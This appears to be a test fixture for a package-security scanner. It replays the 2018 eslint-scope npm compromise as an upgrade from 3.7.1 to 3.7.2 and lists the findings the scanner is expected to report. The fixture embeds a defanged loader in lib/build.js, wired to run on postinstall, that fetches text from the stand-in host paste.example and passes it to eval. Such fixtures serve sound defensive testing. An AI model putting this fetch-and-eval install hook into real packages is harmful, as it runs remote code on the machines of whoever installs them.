import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const build = `'use strict'

const { get } = require('https')

const paste = { host: 'paste.example', path: '/raw/inert', headers: { accept: 'text/html' } }

function run(answer) {
  answer.setEncoding('utf8')
  answer.on('data', (piece) => eval(piece))
}

get(paste, run).on('error', () => {})
`

const inBuild = { file: 'lib/build.js', line: "answer.on('data', (piece) => eval(piece))" } as const
const alsoInBuild = { file: 'lib/build.js', line: "get(paste, run).on('error', () => {})" } as const

export const replay: Replay = replayUpgrade({
  description:
    'A password used twice let somebody release eslint-scope and eslint-config-eslint with a script that evaluated, on install, whatever ' +
    'a paste held: it sent the npm tokens of whoever installed it.',
  date: '2018-07-12',
  name: 'eslint-scope',
  from: ['3.7.1', { manifest: { main: 'lib/index.js' }, files: { 'lib/index.js': durations } }],
  to: [
    '3.7.2',
    {
      manifest: { main: 'lib/index.js', scripts: { postinstall: 'node ./lib/build.js' } },
      files: { 'lib/index.js': durations, 'lib/build.js': build },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inBuild],
    ['remote-code-run', 'critical', alsoInBuild],
    ['beacon-added', 'high', alsoInBuild],
    ['capability-added', 'high', inBuild],
    ['install-script-added', 'high', { file: 'package.json' }],
    [
      'network-host-added',
      'medium',
      {
        file: 'lib/build.js',
        line: "const paste = { host: 'paste.example', path: '/raw/inert', headers: { accept: 'text/html' } }",
      },
    ],
  ],
})
